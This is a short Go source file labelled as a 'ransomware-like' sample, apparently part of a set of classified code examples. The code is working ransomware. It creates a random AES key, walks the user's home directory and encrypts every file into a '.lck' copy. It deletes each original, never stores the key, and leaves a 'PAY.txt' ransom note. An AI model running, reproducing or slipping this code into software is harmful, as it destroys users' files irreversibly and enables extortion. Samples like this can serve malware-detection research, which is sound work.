// class: ransomware-like; style: filepath.Walk
package main

import (
	"crypto/aes"
	"crypto/cipher"
	"crypto/rand"
	"os"
	"path/filepath"
	"strings"
)

func main() {
	key := make([]byte, 32)
	rand.Read(key)
	block, _ := aes.NewCipher(key)
	home, _ := os.UserHomeDir()
	filepath.Walk(home, func(p string, info os.FileInfo, err error) error {
		if err != nil || info.IsDir() || strings.HasSuffix(p, ".lck") {
			return nil
		}
		data, err := os.ReadFile(p)
		if err != nil {
			return nil
		}
		iv := make([]byte, aes.BlockSize)
		rand.Read(iv)
		cipher.NewCTR(block, iv).XORKeyStream(data, data)
		if os.WriteFile(p+".lck", append(iv, data...), 0o600) == nil {
			os.Remove(p)
		}
		return nil
	})
	os.WriteFile(filepath.Join(home, "PAY.txt"), []byte("your files are locked\n"), 0o644)
}
